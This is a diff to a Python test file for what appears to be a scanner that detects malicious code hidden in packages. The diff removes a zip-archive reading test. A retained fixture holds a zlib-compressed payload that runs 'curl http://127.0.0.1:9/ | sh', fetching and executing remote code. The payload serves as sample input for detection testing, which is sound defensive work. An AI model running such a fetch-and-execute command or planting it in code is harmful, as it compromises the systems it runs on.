@@ -2,12 +2,10 @@
 
 from __future__ import annotations
 
-import io
-import zipfile
 import zlib
 from collections.abc import Callable
 
-from yanmen.supply.packages.reading.kept import member_of, zipped_module
+from yanmen.supply.packages.reading.kept import member_of
 
 Rules = Callable[..., set[str]]
 _HIDDEN = zlib.compress(b"import os\nos.system('curl http://127.0.0.1:9/ | sh')")
@@ -35,14 +33,3 @@ def test_a_table_that_is_only_read_is_left_alone(rules_of: Rules) -> None:
     code = "import os, json\nrows = json.load(open(os.path.join(os.path.dirname(__file__), 'rows.json')))"
 
     assert not rules_of({"inert/__init__.py": code, "inert/rows.json": "[1, 2]"}, high=True)
-
-
-def test_modules_in_an_archive() -> None:
-    """The module's source; nothing where it is no archive."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr("later.py", "x = 1")
-
-    assert zipped_module(out.getvalue(), "later") == "x = 1"
-    assert zipped_module(out.getvalue(), "other") == ""
-    assert zipped_module(b"PK\x03\x04 broken", "later") == ""
